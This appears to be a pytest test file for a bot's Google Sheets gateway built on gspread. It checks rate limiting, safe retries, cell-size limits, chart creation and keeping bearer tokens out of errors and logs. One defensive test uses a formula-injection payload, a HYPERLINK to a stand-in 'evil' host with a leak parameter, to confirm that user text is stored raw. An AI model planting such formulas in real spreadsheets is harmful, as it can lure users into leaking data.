"""The gateway's Sheets operations through gspread 6, on the sandbox: every request rate limited, counted,
error-typed and retried by the gateway's one policy; RAW writes; an append whose answer is lost is not
made twice; no token in errors or logs; googleapiclient's Sheets service is never used."""

from __future__ import annotations

import logging

import gspread
import pytest
import requests

from ilt_bot.sandbox.faults import Fault
from ilt_bot.sandbox.identity import sandbox_credentials
from ilt_bot.workspace.clients import build_services
from ilt_bot.workspace.embedded import seed_root_folder
from ilt_bot.workspace.errors import NotFound, PermissionDenied, Unavailable
from ilt_bot.workspace.gateway import Gateway
from ilt_bot.workspace.gspread_http import GatewayHTTPClient, is_idempotent, method_of
from ilt_bot.workspace.ratelimit import RateLimiter
from ilt_bot.workspace.retry import RetryPolicy
from ilt_bot.workspace.transport import sandbox_http

BOT = "ilt-bot@cedar.example.org"
OTHER = "teacher1@cedar.example.org"
ROOT = "0RootFolderForTheIltBotCedar01"
TOKEN = f"sandbox:{BOT}"  # what sandbox_credentials(BOT) sends as its bearer token


class NoGoogleApiClientSheets:
    """Stands in for googleapiclient's Sheets service: any use fails the test."""

    def __getattr__(self, name: str):
        raise AssertionError(f"googleapiclient Sheets used ({name}): the gateway must go through gspread")


def make_gateway(sandbox, user: str = BOT, **kw) -> Gateway:
    services = build_services(sandbox_credentials(user), lambda: sandbox_http(sandbox.url))
    services.sheets = NoGoogleApiClientSheets()
    kw.setdefault("policy", RetryPolicy(sleep=lambda s: None))
    return Gateway(services, user=user, domain="cedar.example.org", **kw)


@pytest.fixture
def gw(sandbox):
    seed_root_folder(sandbox.store, ROOT, BOT)
    return make_gateway(sandbox)


def sheets_log(sandbox, mark: int = 0) -> list[str]:
    return [e["method"] for e in sandbox.requests[mark:] if e["method"].startswith("sheets.")]


def test_sheets_ops_go_through_gspread_and_every_request_is_counted(sandbox, gw):
    assert isinstance(gw.sheets.client.http_client, GatewayHTTPClient)
    mark = len(sandbox.requests)
    sheet = gw.ensure_spreadsheet("cedar/tracker/g", "Tracker", ROOT, {"Feedback": ["id", "text"], "Runs": ["id"]})
    sid = sheet.file.id
    assert gw.append_rows_once(sid, "Feedback", [["r1", "a"], ["r2", "b"]]) == 2
    assert gw.upsert_rows(sid, "Feedback", [["r2", "B"], ["r3", "c"]]) == 2
    assert gw.read_rows(sid, "Feedback") == [["r1", "a"], ["r2", "B"], ["r3", "c"]]

    logged = sheets_log(sandbox, mark)
    assert logged == [
        "sheets.spreadsheets.get", "sheets.spreadsheets.batchUpdate",  # tabs + headers: one atomic batch
        "sheets.spreadsheets.values.get", "sheets.spreadsheets.values.append",  # append: ids, then 1 append
        "sheets.spreadsheets.values.get", "sheets.spreadsheets.values.batchUpdate",  # upsert
        "sheets.spreadsheets.values.append",
        "sheets.spreadsheets.values.get",  # read_rows
    ]
    counted = {m: n for m, n in gw.calls.items() if m.startswith("sheets.")}
    assert counted == {m: logged.count(m) for m in set(logged)}
    assert gw.operations["append_rows_once"] == 2 and gw.operations["read_rows"] == 1


def test_append_cost_does_not_grow_with_rows(sandbox, gw):
    sid = gw.ensure_spreadsheet("k/s", "s", ROOT, {"A": ["id", "v"], "B": ["id", "v"]}).file.id
    before = gw.total_calls
    gw.append_rows_once(sid, "A", [["1", "x"]])
    one = gw.total_calls - before
    before = gw.total_calls
    gw.append_rows_once(sid, "B", [[str(i), "x"] for i in range(500)])
    assert gw.total_calls - before == one == 2
    assert len(gw.read_rows(sid, "B")) == 500


def test_user_text_is_written_raw_never_as_a_formula(sandbox, gw, build_service):
    link = '=HYPERLINK("https://evil.example.com/?leak=1","click me")'
    sid = gw.ensure_spreadsheet("cedar/tracker/raw", "Tracker", ROOT, {"Feedback": ["id", "=SUM(1,2)"]}).file.id
    gw.append_rows_once(sid, "Feedback", [["r1", link], ["r2", "+1"]])
    gw.upsert_rows(sid, "Feedback", [["r2", "=1+1"]])
    values = build_service(sandbox, "sheets", "v4", BOT).spreadsheets().values()
    formula = values.get(spreadsheetId=sid, range="Feedback!A1:B3", valueRenderOption="FORMULA").execute()
    shown = values.get(spreadsheetId=sid, range="Feedback!A1:B3").execute()  # FORMATTED_VALUE
    expected = [["id", "=SUM(1,2)"], ["r1", link], ["r2", "=1+1"]]
    assert formula["values"] == expected
    assert shown["values"] == expected  # a live formula would show "3", "click me" and "2"
    grid = build_service(sandbox, "sheets", "v4", BOT).spreadsheets().get(
        spreadsheetId=sid, ranges=["Feedback!B1:B3"], includeGridData=True).execute()
    cells = [r["values"][0]["userEnteredValue"] for r in grid["sheets"][0]["data"][0]["rowData"]]
    assert cells == [{"stringValue": "=SUM(1,2)"}, {"stringValue": link}, {"stringValue": "=1+1"}]


def test_an_append_whose_answer_is_lost_is_not_made_twice(sandbox, gw):
    """The sandbox commits the append, then drops the connection: the ids are re-read, nothing re-sent."""
    sid = gw.ensure_spreadsheet("cedar/tracker/lost", "Tracker", ROOT, {"Feedback": ["id", "text"]}).file.id
    gw.append_rows_once(sid, "Feedback", [["r0", "first"]])
    armed = {"left": 1}

    def draw(is_write: bool) -> Fault | None:
        if is_write and armed["left"]:
            armed["left"] -= 1
            return Fault("reset", after_commit=True)
        return None

    sandbox.faults.draw = draw
    mark = len(sandbox.requests)
    assert gw.append_rows_once(sid, "Feedback", [["r1", "a"], ["r2", "b"]]) == 2
    assert sheets_log(sandbox, mark) == ["sheets.spreadsheets.values.get", "sheets.spreadsheets.values.append",
                                         "sheets.spreadsheets.values.get"]  # re-read, found, not re-sent
    assert [e.get("fault") for e in sandbox.requests[mark:]][1] == "commit+reset"
    assert [r[0] for r in gw.read_rows(sid, "Feedback")] == ["r0", "r1", "r2"]


def test_a_cell_over_googles_limit_is_refused_by_sheets_and_cut_by_the_gateway(sandbox, gw, gspread_client):
    sid = gw.ensure_spreadsheet("cedar/tracker/huge", "Tracker", ROOT, {"Feedback": ["id", "text"]}).file.id
    worksheet = gspread_client(sandbox, BOT).open_by_key(sid).worksheet("Feedback")
    with pytest.raises(gspread.exceptions.APIError, match="maximum of 50000 characters in a single cell") as refused:
        worksheet.update([["r0", "x" * 50_001]], "A2", raw=True)
    assert refused.value.code == 400 and refused.value.error["status"] == "INVALID_ARGUMENT"
    worksheet.update([["r0", "x" * 50_000]], "A2", raw=True)  # exactly the limit is fine
    huge = "long feedback " * 8000
    assert gw.append_rows_once(sid, "Feedback", [["r1", huge], ["r2", "short"]]) == 2
    assert gw.upsert_rows(sid, "Feedback", [["r3", "😀" * 30_000]]) == 1  # an emoji counts twice
    rows = {r[0]: r[1] for r in gw.read_rows(sid, "Feedback")}
    assert rows["r0"] == "x" * 50_000 and rows["r2"] == "short"
    assert rows["r1"].startswith(huge[:40_000]) and rows["r1"].endswith("50,000-character cell limit]")
    assert len(rows["r1"]) <= 50_000 and len(rows["r3"].encode("utf-16-le")) // 2 <= 50_000
    assert rows["r3"].startswith("😀" * 20_000) and rows["r3"].endswith("cell limit]")
    assert gw.upsert_rows(sid, "Feedback", [["r3", "😀" * 30_000]]) == 0  # the cut row is not rewritten each pass


def _charts(build_service, sandbox, sid: str) -> list[dict]:
    sheets = build_service(sandbox, "sheets", "v4", BOT)
    answer = sheets.spreadsheets().get(spreadsheetId=sid, fields="sheets(properties(title),charts)").execute()
    return [(s["properties"]["title"], c) for s in answer["sheets"] for c in s.get("charts", [])]


def test_a_column_chart_is_added_once_over_whole_columns(sandbox, gw, build_service):
    sid = gw.ensure_spreadsheet("cedar/tracker/chart", "Tracker", ROOT,
                                {"Runs": ["id"], "Dashboard": ["Meeting", "Plus", "Delta"]}).file.id
    gw.upsert_rows(sid, "Dashboard", [["2026-08-25", "3", "1"]])
    tab_id = next(t["sheetId"] for t in gw.sheets.tabs(sid) if t["title"] == "Dashboard")
    masks: list[str] = []
    fetch = gw.sheets.http.fetch_sheet_metadata
    gw.sheets.http.fetch_sheet_metadata = lambda sid, params=None: masks.append((params or {}).get("fields")) or \
        fetch(sid, params=params)
    mark = len(sandbox.requests)
    assert gw.ensure_column_chart(sid, "Dashboard", "Plus and delta", 0, [1, 2], anchor_column=4) is True
    assert sheets_log(sandbox, mark) == ["sheets.spreadsheets.get", "sheets.spreadsheets.get",
                                         "sheets.spreadsheets.batchUpdate"]
    assert len(masks) == 2 and all(m and "data" not in m for m in masks)  # metadata only, never the cells
    mark = len(sandbox.requests)
    assert gw.ensure_column_chart(sid, "Dashboard", "Plus and delta", 0, [1, 2], anchor_column=4) is False
    assert sheets_log(sandbox, mark) == ["sheets.spreadsheets.get"]  # found by its title: nothing sent
    [(tab, chart)] = _charts(build_service, sandbox, sid)
    basic = chart["spec"]["basicChart"]
    column = {"sheetId": tab_id, "startRowIndex": 0}
    assert tab == "Dashboard" and chart["spec"]["title"] == "Plus and delta" and basic["chartType"] == "COLUMN"
    assert basic["domains"][0]["domain"]["sourceRange"]["sources"] == [
        {**column, "startColumnIndex": 0, "endColumnIndex": 1}]
    assert [s["series"]["sourceRange"]["sources"] for s in basic["series"]] == [
        [{**column, "startColumnIndex": 1, "endColumnIndex": 2}],
        [{**column, "startColumnIndex": 2, "endColumnIndex": 3}]]
    assert basic["headerCount"] == 1
    assert chart["position"]["overlayPosition"]["anchorCell"] == {"sheetId": tab_id, "rowIndex": 0, "columnIndex": 4}


def test_a_chart_whose_answer_is_lost_is_not_added_twice(sandbox, gw, build_service):
    sid = gw.ensure_spreadsheet("cedar/tracker/chart-lost", "Tracker", ROOT, {"Dashboard": ["Meeting", "Plus"]}).file.id
    armed = {"left": 1}

    def draw(is_write: bool) -> Fault | None:
        if is_write and armed["left"]:
            armed["left"] -= 1
            return Fault("reset", after_commit=True)
        return None

    sandbox.faults.draw = draw
    assert gw.ensure_column_chart(sid, "Dashboard", "Plus per meeting", 0, [1]) is True
    sandbox.faults.draw = lambda is_write: None
    assert gw.ensure_column_chart(sid, "Dashboard", "Plus per meeting", 0, [1]) is False
    assert len(_charts(build_service, sandbox, sid)) == 1


def test_a_partly_applied_retry_sends_only_missing_rows_after_a_429(sandbox, gw):
    sid = gw.ensure_spreadsheet("cedar/tracker/429", "Tracker", ROOT, {"Feedback": ["id"]}).file.id
    armed = {"left": 2}

    def draw(is_write: bool) -> Fault | None:
        if is_write and armed["left"]:
            armed["left"] -= 1
            return Fault("429")
        return None

    sandbox.faults.draw = draw
    mark = len(sandbox.requests)
    assert gw.append_rows_once(sid, "Feedback", [[f"r{i}"] for i in range(5)]) == 5
    logged = sheets_log(sandbox, mark)
    assert logged.count("sheets.spreadsheets.values.append") == 3  # two refused, one applied
    assert logged.count("sheets.spreadsheets.values.get") == 3  # ids read first and before each re-send
    assert len(gw.caller.policy.waits) == 2
    assert [r[0] for r in gw.read_rows(sid, "Feedback")] == [f"r{i}" for i in range(5)]


def test_gspread_requests_take_tokens_from_the_rate_limiter(sandbox):
    seed_root_folder(sandbox.store, ROOT, BOT)
    now = {"t": 0.0}
    slept: list[float] = []

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        now["t"] += seconds

    limiter = RateLimiter({"sheets.read.user": 6, "sheets.write.user": 6}, clock=lambda: now["t"], sleep=sleep)
    gw = make_gateway(sandbox, limiter=limiter)
    sid = gw.ensure_spreadsheet("cedar/tracker/rl", "Tracker", ROOT, {"Runs": ["id"]}).file.id
    waited = limiter.waited
    for _ in range(8):
        gw.read_rows(sid, "Runs")
    assert limiter.waited > waited  # 8 values.get through a 6/min user bucket had to wait
    assert gw.calls["sheets.spreadsheets.values.get"] == 8


def test_errors_are_typed_and_carry_no_token(sandbox, gw, caplog, build_service):
    caplog.set_level(logging.DEBUG)
    private = build_service(sandbox, "sheets", "v4", OTHER).spreadsheets().create(body={}).execute()["spreadsheetId"]
    with pytest.raises(PermissionDenied) as denied:
        gw.read_rows(private, "Sheet1")
    with pytest.raises(NotFound) as missing:
        gw.append_rows_once("0NoSuchSpreadsheet", "Feedback", [["r1"]])
    for error in (denied.value, missing.value):
        assert error.file_id in (private, "0NoSuchSpreadsheet")
        assert TOKEN not in str(error) and "Bearer" not in str(error)
    assert "share it with" in str(denied.value) or "cannot change" in str(denied.value)
    assert TOKEN not in caplog.text and "Bearer" not in caplog.text


def test_dropped_connections_are_retried_then_reported_without_the_request(sandbox, gw, caplog, monkeypatch):
    caplog.set_level(logging.DEBUG)
    sid = gw.ensure_spreadsheet("cedar/tracker/down", "Tracker", ROOT, {"Runs": ["id"]}).file.id
    session = gw.sheets.http.session

    def refuse(*args, **kwargs):
        raise requests.ConnectionError("connection refused", request=requests.Request(
            "GET", "https://sheets.googleapis.com/", headers={"Authorization": f"Bearer {TOKEN}"}).prepare())

    monkeypatch.setattr(session, "request", refuse)
    before = gw.calls["sheets.spreadsheets.values.get"]
    with pytest.raises(Unavailable) as down:
        gw.read_rows(sid, "Runs")
    assert gw.calls["sheets.spreadsheets.values.get"] - before == gw.caller.policy.max_attempts
    chain, error = [], down.value
    while error is not None:
        chain.append(error)
        error = error.__cause__ or error.__context__
    assert all(getattr(e, "request", None) is None for e in chain)  # no prepared request (Authorization) kept
    assert TOKEN not in " ".join(repr(e) for e in chain) and TOKEN not in caplog.text


def test_plain_gspread_objects_use_the_same_policy_and_never_resend_a_write_blindly(sandbox, gw, monkeypatch):
    sid = gw.ensure_spreadsheet("cedar/tracker/plain", "Tracker", ROOT, {"Runs": ["id", "what"]}).file.id
    worksheet = gw.sheets.open(sid).worksheet("Runs")
    session = gw.sheets.http.session
    real = session.request
    drops = {"left": 1}

    def flaky(method, url, **kwargs):
        if drops["left"]:
            drops["left"] -= 1
            real(method, url, **kwargs)  # sent and applied, then the answer is lost
            raise requests.ConnectionError("connection reset")
        return real(method, url, **kwargs)

    monkeypatch.setattr(session, "request", flaky)
    assert worksheet.get_values() == [["id", "what"]]  # a read: retried by the gateway's policy
    assert gw.calls["sheets.spreadsheets.values.get"] >= 2

    drops["left"] = 1
    with pytest.raises(Unavailable, match="not re-sent"):
        worksheet.append_rows([["r1", "=1+1"]])  # a non-idempotent write: reported, not re-sent
    assert gw.read_rows(sid, "Runs") == [["r1", "=1+1"]]  # applied once, RAW (gspread's default)


@pytest.mark.parametrize(
    ("verb", "url", "method_id", "idempotent"),
    [
        ("get", "https://sheets.googleapis.com/v4/spreadsheets/abc", "sheets.spreadsheets.get", True),
        ("post", "https://sheets.googleapis.com/v4/spreadsheets/abc:batchUpdate", "sheets.spreadsheets.batchUpdate",
         False),
        ("get", "https://sheets.googleapis.com/v4/spreadsheets/abc/values/%27A%20b%27%21A%3AA",
         "sheets.spreadsheets.values.get", True),
        ("post", "https://sheets.googleapis.com/v4/spreadsheets/abc/values/%27A%27%21A1:append",
         "sheets.spreadsheets.values.append", False),
        ("post", "https://sheets.googleapis.com/v4/spreadsheets/abc/values:batchUpdate",
         "sheets.spreadsheets.values.batchUpdate", True),
        ("get", "https://sheets.googleapis.com/v4/spreadsheets/abc/values:batchGet",
         "sheets.spreadsheets.values.batchGet", True),
        ("post", "https://www.googleapis.com/drive/v3/files/abc/permissions", "drive.permissions.create", False),
        ("delete", "https://www.googleapis.com/drive/v3/files/trash", "drive.files.emptyTrash", False),
    ],
)
def test_gspread_urls_are_named_by_their_discovery_method(verb, url, method_id, idempotent):
    assert method_of(verb, url)[0] == method_id
    assert is_idempotent(verb, method_id) is idempotent
